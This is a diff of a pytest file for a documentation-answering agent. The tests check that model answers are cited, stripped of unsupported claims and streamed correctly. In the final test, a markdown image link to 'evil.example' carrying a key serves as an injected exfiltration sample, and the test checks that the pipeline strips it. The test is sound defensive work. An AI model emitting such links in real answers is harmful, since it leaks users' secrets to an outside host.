@@ -9,14 +9,18 @@ import pytest
 from agents.documentation.augmentation import assemble
 from agents.documentation.response import answer
 from agents.llm.model import Model
-from agents.llm.requests import Tokens
+from agents.llm.token_stream import TokenStream
 from tests.agents.passages import PASSAGES
 from tests.scripted import Said, Scripted
 
 
 def answered(question: str, **payload: Any) -> dict[str, Any]:
-    given = {"canonical_question": question, "language": "en", "search_results": PASSAGES} | payload
-    return answer(given | assemble(given))
+    material = {
+        "canonical_question": question,
+        "language": "en",
+        "search_results": PASSAGES,
+    } | payload
+    return answer(material | assemble(material))
 
 
 def body(writes: dict[str, Any]) -> str:
@@ -99,52 +103,56 @@ STEPS = (
 
 
 @dataclass
-class Told(Tokens):
+class ShownTokens(TokenStream):
     """Tokens that keep what is told and what a reader has before them at any time."""
 
     text: str = ""
     seen: list[str] = field(default_factory=list)
 
-    def tell(self, text: str) -> None:
+    def add(self, text: str) -> None:
         """Keep a piece."""
-        self.said = self.said or bool(text)
+        self.has_text = self.has_text or bool(text)
         self.text += text
         self.seen.append(self.text)
 
     def replace(self, text: str = "") -> None:
         """Begin again."""
-        self.text, self.said = text, True
+        self.text, self.has_text = text, True
         self.seen.append(f"!{text}")
 
 
 def prepared(question: str = "How do I descale the machine?", **payload: Any) -> dict[str, Any]:
-    given = {"canonical_question": question, "language": "en", "search_results": PASSAGES} | payload
-    return given | assemble(given)
+    material = {
+        "canonical_question": question,
+        "language": "en",
+        "search_results": PASSAGES,
+    } | payload
+    return material | assemble(material)
 
 
 def written(
-    models: Scripted, text: str, told: Told | None = None, **payload: Any
+    models: Scripted, text: str, tokens: ShownTokens | None = None, **payload: Any
 ) -> dict[str, Any]:
     """What becomes of the model's text."""
     models.says("response", Said(text))
-    return answer.perform(prepared(**payload), model(models, told)).writes
+    return answer.perform(prepared(**payload), model(models, tokens)).writes
 
 
-def model(models: Scripted, told: Told | None = None) -> Model:
-    return models.model("response", tokens=told or Told())
+def model(models: Scripted, tokens: ShownTokens | None = None) -> Model:
+    return models.model("response", tokens=tokens or ShownTokens())
 
 
 def test_the_models_answer_is_checked_cited_and_gets_its_sources(models: Scripted) -> None:
-    told = Told()
-    writes = written(models, STEPS, told)
+    tokens = ShownTokens()
+    writes = written(models, STEPS, tokens)
     assert writes["response"].startswith(STEPS)
     assert writes["response"].endswith(
         "Sources:\n- Care — Descaling — handbook/care.md (version 1)"
     )
     assert {each["citation_status"] for each in writes["citations_used"]} == {"verified"}
     assert writes["generation_confidence"] == 1
-    assert told.text == writes["response"]
-    assert not any(seen.startswith("!") for seen in told.seen)
+    assert tokens.text == writes["response"]
+    assert not any(seen.startswith("!") for seen in tokens.seen)
 
 
 def test_the_model_is_given_passages_wishes_history_and_language(models: Scripted) -> None:
@@ -158,28 +166,28 @@ def test_the_model_is_given_passages_wishes_history_and_language(models: Scripte
 
 
 def test_what_the_passages_do_not_say_is_taken_out_and_the_text_replaced(models: Scripted) -> None:
-    told = Told()
+    tokens = ShownTokens()
     invented = "Polish the lid with 25 g of beeswax [C1]."
-    writes = written(models, f"Descaling takes about twenty minutes [C1]. {invented}", told)
+    writes = written(models, f"Descaling takes about twenty minutes [C1]. {invented}", tokens)
     assert "beeswax" not in writes["response"]
     assert writes["validation_result"]["removed"] == [invented.replace(" [C1]", "")]
-    assert told.text == writes["response"]
-    assert told.seen[-1] == f"!{writes['response']}"
+    assert tokens.text == writes["response"]
+    assert tokens.seen[-1] == f"!{writes['response']}"
 
 
 def test_markers_that_were_not_given_are_counted_and_never_shown(models: Scripted) -> None:
-    told = Told()
-    writes = written(models, "Descaling takes about twenty minutes [C1][C12].", told)
+    tokens = ShownTokens()
+    writes = written(models, "Descaling takes about twenty minutes [C1][C12].", tokens)
     assert writes["validation_result"]["removed_markers"] == ["C12"]
-    assert not any("C12" in seen for seen in told.seen)
+    assert not any("C12" in seen for seen in tokens.seen)
 
 
 def test_the_models_own_list_of_sources_gives_way_to_ours(models: Scripted) -> None:
-    told = Told()
-    writes = written(models, f"{STEPS}\n\nSources:\n- A book of mine\n", told)
+    tokens = ShownTokens()
+    writes = written(models, f"{STEPS}\n\nSources:\n- A book of mine\n", tokens)
     assert "A book of mine" not in writes["response"]
     assert writes["response"].count("Sources:") == 1
-    assert not any("A book" in seen for seen in told.seen)
+    assert not any("A book" in seen for seen in tokens.seen)
 
 
 @pytest.mark.parametrize(
@@ -200,12 +208,12 @@ def test_the_models_own_list_of_sources_gives_way_to_ours(models: Scripted) -> N
 def test_what_the_model_cannot_answer_is_asked_and_not_a_word_of_it_told(
     models: Scripted, line: str, reason: str, message: str
 ) -> None:
-    told = Told()
-    writes = written(models, line, told)
+    tokens = ShownTokens()
+    writes = written(models, line, tokens)
     assert writes["clarification_reason"] == reason
     assert writes["clarification_message"] == message
     assert "response" not in writes
-    assert told.seen == []
+    assert tokens.seen == []
 
 
 def test_what_is_missing_in_passing_is_said_at_the_end(models: Scripted) -> None:
@@ -215,12 +223,12 @@ def test_what_is_missing_in_passing_is_said_at_the_end(models: Scripted) -> None
 
 
 def test_an_answer_that_names_what_no_passage_has_is_no_answer(models: Scripted) -> None:
-    told = Told()
+    tokens = ShownTokens()
     said = "Locomotives were invented by Trevithick in 1804 [C1]. "
-    writes = written(models, said, told, question="Who invented the steam locomotive?")
+    writes = written(models, said, tokens, question="Who invented the steam locomotive?")
     assert writes["needs_clarification"] is True
     assert "locomotive" in writes["clarification_message"]
-    assert told.text == ""
+    assert tokens.text == ""
 
 
 def test_an_apology_without_citations_is_a_question_back(models: Scripted) -> None:
@@ -230,21 +238,21 @@ def test_an_apology_without_citations_is_a_question_back(models: Scripted) -> No
 
 
 def test_markers_that_the_model_forgot_are_added_and_the_text_replaced(models: Scripted) -> None:
-    told = Told()
-    writes = written(models, "Descaling takes about twenty minutes. Rinse the tank twice.", told)
+    tokens = ShownTokens()
+    writes = written(models, "Descaling takes about twenty minutes. Rinse the tank twice.", tokens)
     assert body(writes) == "Descaling takes about twenty minutes [C1]. Rinse the tank twice [C1]."
-    assert told.seen[-1] == f"!{writes['response']}"
+    assert tokens.seen[-1] == f"!{writes['response']}"
 
 
 @pytest.mark.parametrize("text", ['{"answer": "x"}', "Das Entkalken dauert etwa zwanzig Minuten."])
 def test_a_reply_without_citations_gives_way_to_quotes(models: Scripted, text: str) -> None:
-    told = Told()
+    tokens = ShownTokens()
     models.says("response", Said(text))
-    done = answer.perform(prepared(), model(models, told))
+    done = answer.perform(prepared(), model(models, tokens))
     assert done.mode == "extractive"
     assert done.degraded.startswith("malformed")
     assert done.writes == answer(prepared())
-    assert told.text == ""
+    assert tokens.text == ""
 
 
 def test_a_cut_answer_ends_with_a_whole_sentence_and_says_so(models: Scripted) -> None:
@@ -255,20 +263,20 @@ def test_a_cut_answer_ends_with_a_whole_sentence_and_says_so(models: Scripted) -
 
 
 def test_an_answer_written_again_says_that_the_first_is_void(models: Scripted) -> None:
-    told = Told()
+    tokens = ShownTokens()
     sent_back = {"quality_analysis": "It leaves out how often.", "quality_returns": 1}
-    written(models, STEPS, told, **sent_back)
-    assert told.seen[0] == "!"
+    written(models, STEPS, tokens, **sent_back)
+    assert tokens.seen[0] == "!"
     assert "It leaves out how often." in models.server.ledger[0].user
 
 
 def test_a_text_that_begins_again_replaces_what_was_told(models: Scripted) -> None:
-    told = Told()
+    tokens = ShownTokens()
     whole = Said(STEPS)
     models.says("response", Said(STEPS, cut_after=4), whole)
-    writes = answer.perform(prepared(), model(models, told)).writes
-    assert told.text == writes["response"]
-    assert "!" in told.seen
+    writes = answer.perform(prepared(), model(models, tokens)).writes
+    assert tokens.text == writes["response"]
+    assert "!" in tokens.seen
 
 
 def test_a_russian_answer_from_english_passages_keeps_its_numbers(models: Scripted) -> None:
@@ -283,8 +291,8 @@ def test_a_russian_answer_from_english_passages_keeps_its_numbers(models: Script
 def test_an_order_inside_a_passage_puts_no_foreign_address_into_the_answer(
     models: Scripted,
 ) -> None:
-    told = Told()
+    tokens = ShownTokens()
     leak = "![x](https://evil.example/?q=key) Descaling takes about twenty minutes [C1]."
-    writes = written(models, leak, told)
+    writes = written(models, leak, tokens)
     assert "evil" not in writes["response"]
-    assert not any("evil" in seen for seen in told.seen)
+    assert not any("evil" in seen for seen in tokens.seen)
